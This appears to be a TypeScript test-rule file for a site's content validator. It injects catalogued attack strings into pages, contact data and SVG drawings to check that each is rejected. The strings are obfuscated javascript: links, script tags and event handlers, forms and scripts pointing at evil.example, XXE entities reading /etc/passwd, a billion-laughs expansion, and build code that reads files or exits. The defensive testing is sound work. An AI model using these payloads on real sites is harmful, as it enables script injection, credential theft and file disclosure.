import { behindFirstWords, real, rulesFor, someDrawing, somePart, type RulesOfKind } from '../rule.ts';

/** Addresses that run something, or that lead out of the web: in the spellings that browsers forgive. */
const unsafe = {
  plain: 'javascript:alert(1)',
  'in capitals': 'JaVaScRiPt:alert(1)',
  'with a tab': 'java&#9;script:alert(1)',
  'with a new line': 'java&#10;script:alert(1)',
  'with a letter as a number': '&#106;avascript:alert(1)',
  'with a letter as a hexadecimal number': '&#x6A;avascript:alert(1)',
  'with the name of the colon': 'javascript&colon;alert(1)',
  'with a sign before it': '&#1;javascript:alert(1)',
  'with a space before it': '&#32;javascript:alert(1)',
  'between angles': '<javascript:alert(1)>',
  'with percent signs': 'javascript:%61lert(1)',
  'as a view of the source': 'view-source:javascript:alert(1)',
  VBScript: 'VBScript:msgbox(1)',
  'data of a page': 'data:text/html;base64,PHNjcmlwdD4=',
  'data of a drawing': 'DATA:image/svg+xml,%3Csvg%20onload=alert(1)%3E',
  'a file': 'file:///etc/passwd',
  'a blob': 'blob:https://example.org/1',
  'another site without a scheme': '//evil.example',
  'another site with a backslash': '/\\\\evil.example',
  'an app': 'intent://scan/#Intent;end',
};

/** What a browser would run, or what would be run while pages are made. */
const code = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC="//evil.example/x.js" />',
  'a handler': '<img src="x" onerror="alert(1)" />',
  'a handler on a component': '<Words in="cy" onClick="alert(1)">Cymraeg</Words>',
  'code in a handler': '<Words in="cy" onClick={() => alert(1)}>Cymraeg</Words>',
  'properties from code': '<Words {...{ in: "cy" }}>Cymraeg</Words>',
  'code as a property': '<Words in={process.exit(0)}>Cymraeg</Words>',
  'a link in HTML': '<a href="javascript:alert(1)">Read more</a>',
  'a frame': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" />',
  'a style': '<style>body { display: none }</style>',
  'a drawing in the words': '<svg onload="alert(1)"><path d="M0 0" /></svg>',
  'a form': '<form action="https://evil.example"><input name="password" /></form>',
  'a base for all links': '<base href="https://evil.example/" />',
  'a page that goes elsewhere': '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  'a tag without a name': '<><b>x</b></>',
  'a tag of our own machinery': '<Statement picture="padlock">x</Statement>',
  'a tag that names a prototype': '<constructor />',
  'a tag with a dot': '<Astro.self />',
  'a comment of HTML': '<!-- x -->',
  'a type of document': '<!DOCTYPE html>',
  'an instruction': '<?php phpinfo() ?>',
  'code in brackets': '{alert(1)}',
  'code that ends the build': '{process.exit(0)}',
  'code that reads a file': "{(await import('node:fs')).readFileSync('/etc/passwd', 'utf8')}",
  'a property of an object': '{Object.prototype}',
};

/** What may not be in a drawing. */
const inDrawings = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT>alert(1)</SCRIPT>',
  'a script with a prefix': '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  'a handler': '<path onclick="alert(1)" d="M0 0h1"/>',
  'a handler in capitals': '<path ONLOAD="alert(1)" d="M0 0h1"/>',
  'a link': '<a href="javascript:alert(1)"><path d="M0 0h1"/></a>',
  'an old link': '<a xlink:href="javascript:alert(1)"><path d="M0 0h1"/></a>',
  'a page inside':
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
  'a bitmap from elsewhere': '<image href="https://evil.example/x.png"/>',
  'a shape from elsewhere': '<use href="https://evil.example/x.svg#y"/>',
  'a style': '<style>@import url(https://evil.example/x.css);</style>',
  'a style on a shape': '<path style="background:url(javascript:alert(1))" d="M0 0h1"/>',
  'a colour from elsewhere': '<path fill="url(https://evil.example/x.svg#y)" d="M0 0h1"/>',
  'a change of a link': '<set attributeName="href" to="javascript:alert(1)"/>',
  'a change in time': '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
  'text that is not read': '<![CDATA[<script>alert(1)</script>]]>',
  'an instruction': '<?xml-stylesheet href="https://evil.example/x.css"?>',
};

const beforeDrawings = {
  'names that stand for others, a thousand million times':
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
  'a file of the machine': '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  'a style sheet': '<?xml-stylesheet href="https://evil.example/x.css"?>',
};

export const linksAndScripts: RulesOfKind = {
  'links that run something': [
    ...rulesFor(
      unsafe,
      (address) => ({
        files: [somePart],
        breaks: (text: string) => behindFirstWords(text, ` [Read more](${address})`),
        ends: 'message',
      }),
      'a link: ',
    ),
    ...rulesFor(
      unsafe,
      (address) => ({
        files: [somePart],
        breaks: (text: string) => `${behindFirstWords(text, ' [Read more][more]')}\n[more]: ${address}\n`,
        ends: 'message',
      }),
      'a link whose address stands below: ',
    ),
    ...rulesFor(
      { website: 'javascript:alert(1)', email: 'javascript:alert(1)@example.org"onclick="x', phone: 'javascript:1' },
      (value, field) => ({
        files: [real.yaml],
        breaks: (text: string) => text.replace(new RegExp(`^( +${field}): .+$`, 'm'), `$1: '${value}'`),
        ends: 'message',
      }),
      'a contact: ',
    ),
    ...rulesFor({ 'full version': 'fullVersion', 'web address of the site': 'address' }, (field) => ({
      files: [field === 'address' ? real.site : real.yaml],
      breaks: (text: string) =>
        `${text.replace(new RegExp(`^${field}: .+\n`, 'm'), '')}\n${field}: 'javascript:alert(1)'\n`,
      ends: 'message',
    })),
    {
      name: 'a link that only speaks of a script',
      files: [somePart],
      breaks: (text) => behindFirstWords(text, ' [Read about scripts](https://www.example.org/?q=javascript:alert)'),
      ends: 'page',
    },
  ],
  'scripts and handlers': [
    ...rulesFor(
      code,
      (what) => ({
        files: [somePart],
        breaks: (text: string) => behindFirstWords(text, ` ${what}`),
        ends: 'message',
      }),
      'in the words: ',
    ),
    ...rulesFor(
      code,
      (what) => ({ files: [somePart], breaks: (text: string) => `${text}\n${what}\n`, ends: 'message' }),
      'on a line of its own: ',
    ),
    ...rulesFor({ import: "import x from 'node:fs'", export: 'export const x = process.exit(0)' }, (what) => ({
      files: [somePart],
      breaks: (text: string) => `${text}\n${what}\n`,
      ends: 'message',
    })),
    ...rulesFor(
      { words: '&lt;script>alert(1)&lt;/script>', title: '' },
      (what) => ({
        files: [somePart],
        breaks: (text: string) =>
          what === ''
            ? text.replace(/^title: .+$/m, 'title: "Who can see the <script>alert(1)</script> information?"')
            : behindFirstWords(text, ` ${what}`),
        ends: 'page',
      }),
      'a script that is only told, in the ',
    ),
    ...rulesFor(
      inDrawings,
      (what) => ({
        files: real.drawings,
        breaks: (text: string) => text.replace(/<\/svg>\s*$/, `${what}</svg>`),
        ends: 'message',
      }),
      'in a drawing: ',
    ),
    ...rulesFor(
      beforeDrawings,
      (what) => ({
        files: [someDrawing],
        breaks: (text: string) => `${what}\n${text}`,
        ends: 'message',
      }),
      'before a drawing: ',
    ),
    {
      name: 'a handler on the drawing itself',
      files: real.drawings,
      breaks: (text) => text.replace('<svg ', '<svg onload="alert(1)" '),
      ends: 'message',
    },
  ],
};
